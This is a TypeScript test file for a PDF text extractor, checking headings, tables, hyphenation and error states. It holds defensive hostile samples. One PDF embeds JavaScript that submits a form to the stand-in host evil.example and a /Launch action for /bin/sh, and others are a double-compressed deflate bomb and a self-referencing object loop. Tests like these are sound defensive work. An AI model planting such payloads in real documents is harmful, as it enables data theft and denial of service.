import { deflateSync } from "node:zlib"
import { assert, describe, it } from "@effect/vitest"
import { Effect, Either } from "effect"
import { DocumentLimits, readDocument } from "../../src/Layers/Knowledge/DocumentText/DocumentText.ts"
import { handWrittenPdf, pdfOf } from "./pdfs.ts"

const read = (bytes: Buffer) => Effect.either(readDocument("pdf", bytes))

/** The document's passages with their headings, or the reason why it has none. */
const resultOf = (bytes: Buffer) =>
  Effect.map(
    read(bytes),
    Either.match({
      onLeft: (reason) => reason,
      onRight: (passages) => passages.map(({ body, heading }) => `${heading} | ${body}`)
    })
  )

const onePage = (content: string, more: ReadonlyArray<string> = [], catalog = "") =>
  handWrittenPdf([
    `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`,
    "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>",
    `<< /Length ${content.length} >>\nstream\n${content}\nendstream`,
    "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ...more
  ])

describe("the text of a PDF", () => {
  it.live(
    "comes with its headings, paragraphs, tables and accents, and without the frame of its pages",
    () =>
      Effect.gen(function* () {
        const bytes = yield* Effect.promise(() =>
          pdfOf((document) => {
            for (let page = 1; page <= 3; page++) {
              if (page > 1) document.addPage()
              document.font("Helvetica").fontSize(8).text("Ondas Software - confidencial", 72, 40)
              document.text(`Página ${page} de 3`, 400, 40)
              document.font("Helvetica-Bold").fontSize(20).text(`Capítulo ${page}: Preços`, 72, 80)
              document.font("Helvetica").fontSize(11).text(`O plano ${page} inclui suporte. `.repeat(9), 72, 120)
            }
            document.fontSize(14).font("Helvetica-Bold").text("Condições", 72, 300)
            document.font("Helvetica").fontSize(11)
            for (const [row, [plan, price]] of [
              ["Plano", "Preço"],
              ["Ouro", "R$ 900"],
              ["Prata", "R$ 500"]
            ].entries()) {
              document.text(plan ?? "", 72, 330 + 16 * row)
              document.text(price ?? "", 240, 330 + 16 * row)
            }
          })
        )
        const passages = yield* resultOf(bytes)
        assert.include(String(passages[0]), "Capítulo 1: Preços | O plano 1 inclui suporte.")
        assert.include(String(passages[1]), "Capítulo 2: Preços | O plano 2 inclui suporte.")
        assert.include(
          Array.isArray(passages) ? passages.map(String) : [],
          "Capítulo 3: Preços > Condições | Plano: Ouro; Preço: R$ 900\nPlano: Prata; Preço: R$ 500"
        )
        assert.notInclude(String(passages), "confidencial")
        assert.notInclude(String(passages), "Página 2")
      }),
    60_000
  )

  it.live("in two words of a line is one line, and a word cut at its end is whole", () =>
    Effect.gen(function* () {
      const content =
        "BT /F1 11 Tf 72 700 Td (The delivery takes fif-) Tj 0 -13 Td (teen days and is) Tj 84 0 Td (free.) Tj ET"
      assert.deepStrictEqual(yield* resultOf(onePage(content)), [" | The delivery takes fifteen days and is free."])
    })
  )

  it.live("is missing in a scanned one, kept behind a password, or cannot be read: each is said to be so", () =>
    Effect.gen(function* () {
      const picture = yield* Effect.promise(() => pdfOf((document) => document.rect(0, 0, 500, 500).fill("black")))
      assert.strictEqual(yield* resultOf(picture), "document_without_text")
      const secret = yield* Effect.promise(() =>
        pdfOf((document) => document.text("Nobody reads this."), { userPassword: "sesame" })
      )
      assert.strictEqual(yield* resultOf(secret), "document_encrypted")
      const whole = yield* Effect.promise(() =>
        pdfOf((document) => document.text("A text that is cut off.".repeat(50)))
      )
      for (const broken of [
        Buffer.from("%PDF-1.7\n"),
        Buffer.from("%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj"),
        whole.subarray(0, whole.length / 3),
        Buffer.alloc(4096, 7),
        Buffer.alloc(0)
      ]) {
        const answer = yield* resultOf(broken)
        assert.isString(answer, String(answer))
        assert.oneOf(String(answer), ["document_broken", "document_without_text"])
      }
    })
  )

  it.live("runs nothing: scripts, launches and forms of a document are not text and have no effect", () =>
    Effect.gen(function* () {
      const script = "process.exit(1); app.alert('stolen'); this.submitForm('https://evil.example')"
      const bytes = onePage(
        "BT /F1 12 Tf 72 700 Td (Returns are accepted within thirty days.) Tj ET",
        [
          `<< /S /JavaScript /JS (${script.replaceAll("(", "\\(").replaceAll(")", "\\)")}) >>`,
          "<< /S /Launch /F (/bin/sh) >>"
        ],
        "/OpenAction 6 0 R /AA << /WC 6 0 R /DS 7 0 R >> /Names << /JavaScript << /Names [(x) 6 0 R] >> >>"
      )
      const passages = yield* resultOf(bytes)
      assert.deepStrictEqual(passages, [" | Returns are accepted within thirty days."])
    })
  )

  it.live(
    "of a stream that inflates without end, or of objects that refer to themselves, ends in a clear state",
    () =>
      Effect.gen(function* () {
        const bomb = deflateSync(Buffer.alloc(210 * 1024 * 1024, "BT (x) Tj ET "), { level: 1 }).toString("latin1")
        const bytes = handWrittenPdf([
          "<< /Type /Catalog /Pages 2 0 R >>",
          "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
          "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>",
          `<< /Length ${bomb.length} /Filter /FlateDecode >>\nstream\n${bomb}\nendstream`
        ])
        assert.isBelow(bytes.length, 4_000_000)
        assert.strictEqual(yield* resultOf(bytes), "document_too_large")
        // Packed twice, it is also small on the outside.
        const twice = deflateSync(Buffer.from(bomb, "latin1")).toString("latin1")
        const packed = handWrittenPdf([
          "<< /Type /Catalog /Pages 2 0 R >>",
          "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
          "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>",
          `<< /Length ${twice.length} /Filter [/FlateDecode /FlateDecode] >>\nstream\n${twice}\nendstream`
        ])
        assert.strictEqual(yield* resultOf(packed), "document_too_large")
        const loop = handWrittenPdf(["<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [2 0 R] /Count 1 >>"])
        const limits = { ...(yield* DocumentLimits), timeout: "3 seconds" } as const
        assert.strictEqual(yield* Effect.provideService(resultOf(loop), DocumentLimits, limits), "reading_timed_out")
      }),
    120_000
  )
})
